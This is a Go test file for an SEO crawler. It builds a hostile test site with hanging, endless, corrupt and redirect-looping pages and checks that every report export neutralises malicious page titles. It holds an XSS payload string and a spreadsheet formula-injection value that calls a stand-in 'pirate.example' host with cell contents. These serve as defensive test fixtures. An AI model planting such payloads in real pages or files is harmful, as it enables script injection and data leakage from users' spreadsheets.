package seo

import (
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/xuri/excelize/v2"

	"github.com/formaouest/chaland/warehouse/warehousetest"
)

// formula is longer than a title should be, so that a finding quotes it.
const formula = `=HYPERLINK("http://pirate.example/?"&A1;"Cliquez ici pour voir tous nos thés et nos bols")`

const malicious = `Thés <script>alert("x")</script><img src=x onerror=alert(1)>`

// hostileShop has one page for each way in which a server may harm who visits it, beside
// pages like any other.
func hostileShop(t *testing.T) *shopSite {
	t.Helper()
	s := newShop(t)
	untrusted := httptest.NewTLSServer(http.NotFoundHandler())
	untrusted.Config.ErrorLog = log.New(io.Discard, "", 0)
	t.Cleanup(untrusted.Close)
	hidden := httptest.NewServer(http.NotFoundHandler()) // of another address than the one allowed
	t.Cleanup(hidden.Close)
	_, port, _ := strings.Cut(strings.TrimPrefix(hidden.URL, "http://"), ":")
	s.page("/", "Accueil de la faïencerie", "/bols", "/muet", "/goutte", "/giga", "/gzip", "/latin", "/cadres", "/ligne", "/titre", "/formule", "/tourne/1", "/agenda/2000-01-01", "/fait-le-tour", "/coupe", "/vide",
		untrusted.URL+"/", "http://localhost:"+port+"/admin")
	s.page("/bols", "Bols à oreilles", "/", "/absente")
	hold := func(r *http.Request) { <-r.Context().Done() }
	s.set("/muet", func(w http.ResponseWriter, r *http.Request) { hold(r) })
	s.set("/goutte", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		for r.Context().Err() == nil {
			_, _ = io.WriteString(w, "<p>")
			_ = http.NewResponseController(w).Flush()
			time.Sleep(20 * time.Millisecond)
		}
	})
	s.set("/giga", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, "<title>Sans fin</title>")
		for block := bytes.Repeat([]byte("<p>encore</p>"), 10_000); r.Context().Err() == nil; {
			if _, err := w.Write(block); err != nil {
				return
			}
		}
	})
	s.set("/gzip", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Content-Encoding", "gzip")
		var out bytes.Buffer
		zip := gzip.NewWriter(&out)
		_, _ = io.WriteString(zip, strings.Repeat("<p>faïence</p>", 1000))
		_ = zip.Close()
		damaged := out.Bytes()
		for i := 20; i < len(damaged)-8; i++ {
			damaged[i] ^= 0x5a
		}
		_, _ = w.Write(damaged)
	})
	s.text("/latin", "text/html; charset=utf-8", "<!doctype html><html lang=fr><title>Th\xe9s d'\xe9t\xe9</title><h1>Th\xe9s</h1><p>"+strings.Repeat("Du th\xe9 pour l'\xe9t\xe9. ", 50))
	s.text("/cadres", "text/html", "<!doctype html><title>Cadres</title>"+strings.Repeat("<iframe src=/cadres></iframe>", 20_000)+strings.Repeat("<div>", 20_000))
	s.text("/ligne", "text/html", "<!doctype html><html lang=fr><title>Une ligne</title><p>"+strings.Repeat("mot ", 10<<18))
	s.page("/titre", strings.NewReplacer("<", "&lt;", ">", "&gt;").Replace(malicious), "/")
	s.page("/formule", formula, "/")
	s.set("/coupe", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Content-Length", "100000")
		_, _ = io.WriteString(w, "<title>Coupée</title>")
	})
	s.text("/vide", "text/html", "")
	s.redirect("/fait-le-tour", "/le-tour", 302)
	s.redirect("/le-tour", "/fait-le-tour", 302)
	for i := range 60 {
		s.redirect(fmt.Sprintf("/tourne/%d", i), fmt.Sprintf("/tourne/%d", i+1), 302)
	}
	start := time.Date(2000, 1, 1, 0, 0, 0, 0, time.UTC)
	for i := range 2000 {
		s.page(start.AddDate(0, 0, i).Format("/agenda/2006-01-02"), "Agenda", start.AddDate(0, 0, i+1).Format("/agenda/2006-01-02"))
	}
	return s
}

// A site that does all it can to hold an audit up is audited: the good pages as ever, each
// bad one with what is wrong with it, and counted.
func TestAHostileSiteIsSurvivedReportedAndCounted(t *testing.T) {
	t.Parallel()
	s := hostileShop(t)
	r := s.request(t)
	r.patience, r.Warehouse = time.Second, warehousetest.New(t)
	r.MaxDepth = 600
	start := time.Now()
	a := audit(t, r)
	if took := time.Since(start); took > 60*time.Second {
		t.Errorf("the audit took %v", took)
	}
	for path, want := range map[string]string{
		"/muet": "timeout", "/goutte": "timeout", "/giga": "too_large", "/gzip": "bad_encoding", "/ligne": "too_large", "/fait-le-tour": "", "/le-tour": "redirect_loop",
		"/cadres": "unreadable", "/bols": "", "/": "", "/latin": "", "/coupe": "cut", "/vide": "blank", "/tourne/11": "too_many_redirects",
	} {
		if got := a.page(t, path); got.Problem != want {
			t.Errorf("%s: problem %q, want %q", path, got.Problem, want)
		}
	}
	for path, rule := range map[string]string{
		"/latin": "con-mojibake", "/muet": "http-sans-reponse", "/le-tour": "http-boucle", "/tourne/1": "http-boucle", "/tourne/3": "http-chaine", "/bols": "lnk-casse-interne",
		"/": "lnk-casse-externe", "/giga": "http-taille-html", "/ligne": "http-taille-html", "/cadres": "http-illisible", "/gzip": "http-illisible", "/goutte": "http-illisible", "/coupe": "http-illisible", "/vide": "http-illisible",
	} {
		if !a.has(rule, path) {
			t.Errorf("%s does not tell of %s: %v", rule, path, a.Summary.Rules)
		}
	}
	for _, f := range a.Findings {
		if text := f.Detail + f.Evidence; (f.Rule == "http-sans-reponse" || f.Rule == "http-illisible") && strings.ContainsAny(text, "_") || strings.Contains(text, "timeout") {
			t.Errorf("%s tells of %s in the words of the program: %s", f.Rule, f.URL, text)
		}
	}
	days := 0
	for _, p := range a.Pages {
		if strings.Contains(p.URL, "/agenda/") {
			days++
		}
	}
	if days != 400 || a.Summary.Traps["calendar"] != 1 {
		t.Errorf("%d days visited, traps %v", days, a.Summary.Traps)
	}
	titlesAreText(t, a)
	later, err := NewArchive(r.Warehouse).Load(t.Context(), a.ID)
	if err != nil {
		t.Fatal(err)
	}
	titlesAreText(t, later)
}

// titlesAreText looks for the malicious titles in every export: there as texts, nowhere as
// markup, as a formula or as an instruction of a server.
func titlesAreText(t *testing.T, a *Audit) {
	t.Helper()
	if got := a.page(t, "/titre").Title; got != malicious {
		t.Errorf("the title reads %q", got)
	}
	for _, f := range Formats() {
		raw, err := f.Bytes(a)
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		switch f.Name {
		case "html":
			doc, err := goquery.NewDocumentFromReader(bytes.NewReader(raw))
			if err != nil || doc.Find("script, img, [onerror]").Length() != 0 || !strings.Contains(doc.Text(), malicious) {
				t.Errorf("the HTML report: %v, %d elements, text %v", err, doc.Find("script, img").Length(), strings.Contains(doc.Text(), malicious))
			}
		case "xlsx":
			book, err := excelize.OpenReader(bytes.NewReader(raw))
			if err != nil {
				t.Fatal(err)
			}
			rows, err := book.GetRows("Pages")
			if err != nil || !slices.ContainsFunc(rows, func(row []string) bool { return slices.Contains(row, malicious) }) {
				t.Errorf("the workbook does not hold the title as it is, %v", err)
			}
		case "csv", "redirects":
			cells := cellsOf(t, f.Name, raw)
			if f.Name == "csv" && (!slices.Contains(cells, malicious) || !slices.Contains(cells, "'"+formula)) {
				t.Error("the table does not hold the titles as texts")
			}
			if at := slices.IndexFunc(cells, func(cell string) bool { return cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) }); at >= 0 {
				t.Errorf("a spreadsheet runs a cell of %s: %s", f.Name, cells[at])
			}
		case "json":
			var told struct {
				Pages []struct{ URL, Title string }
			}
			if err := json.Unmarshal(raw, &told); err != nil {
				t.Fatalf("JSON: %v", err)
			}
			titles := map[string]string{}
			for _, p := range told.Pages {
				titles[p.URL[strings.LastIndex(p.URL, "/"):]] = p.Title
			}
			if titles["/titre"] != malicious || titles["/formule"] != formula {
				t.Errorf("JSON tells the titles %q and %q", titles["/titre"], titles["/formule"])
			}
		case "sitemap":
			var told struct {
				Addresses []string `xml:"url>loc"`
			}
			if err := xml.Unmarshal(raw, &told); err != nil || !slices.ContainsFunc(told.Addresses, func(a string) bool { return strings.HasSuffix(a, "/titre") }) {
				t.Errorf("the sitemap: %v, %v", err, told.Addresses)
			}
		case "redirects-apache", "redirects-nginx":
			if bytes.Contains(raw, []byte("script")) || bytes.Contains(raw, []byte("HYPERLINK")) {
				t.Errorf("%s holds a title among its instructions", f.Name)
			}
		case "text": // what a terminal shows is a text
		case "pdf":
			if !bytes.HasPrefix(raw, []byte("%PDF")) || bytes.Contains(raw, []byte("/JavaScript")) || bytes.Contains(raw, []byte("/JS ")) {
				t.Error("the PDF runs something")
			}
		default:
			t.Errorf("nobody looks at the titles in %s", f.Name)
		}
	}
}

// cellsOf are the cells of a table for a French spreadsheet.
func cellsOf(t *testing.T, name string, raw []byte) (cells []string) {
	t.Helper()
	table := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\ufeff"))))
	table.Comma = ';'
	rows, err := table.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return slices.Concat(rows...)
}
